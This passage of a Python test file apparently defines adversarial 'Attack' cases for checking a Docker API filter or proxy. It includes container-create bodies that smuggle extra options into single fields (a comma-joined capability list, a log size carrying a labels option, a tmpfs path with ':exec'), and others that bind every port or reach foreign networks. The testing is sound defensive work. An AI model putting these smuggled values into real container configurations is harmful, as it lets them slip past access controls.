    ("capability with another", {"CapDrop": ["NET_RAW,CHOWN"]}),
    ("log template", {"LogConfig": {"Type": "json-file", "Config": {"tag": "{{.DaemonName}}"}}}),
    ("log size with another option", {"LogConfig": {"Type": "json-file", "Config": {"max-size": "10m,labels=x"}}}),
    ("all ports", {"PortBindings": {"1-65535/tcp": [{}]}}),
    ("tmpfs target with options", {"Tmpfs": {"/t:exec": ""}}),
]

ATTACKS: tuple[Attack, ...] = (
    *(_create(name, host) for name, host in HOST_CONFIG),
    *(_create(name, **more) for name, more in CONFIG),
    *(_create(f"language: {name}", host) for name, host in LANGUAGES_IN_CREATE),
    *(Attack(f"language: {name}", method, target, body) for name, method, target, body in LANGUAGES),
    *(_text(name, text) for name, text in BODIES),
    *(
        Attack(f"create: {name}", body={"Image": "busybox", "HostConfig": host}, needs_daemon=True)
        for name, host in FOREIGN_IN_CREATE
    ),
    Attack(
        "create: a foreign network by settings",
        body={"Image": "busybox", "NetworkingConfig": {"EndpointsConfig": {"{network}": {}}}},
        needs_daemon=True,
    ),
    Attack(
        "create: a foreign network by its ID in the settings",
        body={"Image": "busybox", "NetworkingConfig": {"EndpointsConfig": {"mine": {"NetworkID": "{network}"}}}},
        needs_daemon=True,
    ),
    *(Attack(name, method, target, body, needs_daemon=True) for name, method, target, body in OTHERS),
    *(
        Attack(name, method, target, body, needs_daemon="{victim}" in target and "since" not in target)
        for name, method, target, body in RULED
    ),
    *(Attack(f"target: {target}", "GET", target) for target in TARGETS),
    *(Attack(name, method, target, harmless=True, needs_daemon=True) for name, method, target in HARMLESS),
    *(Attack(f"raw: {name}", raw=raw, harmless=True, needs_daemon=True) for name, raw in RAW),
)
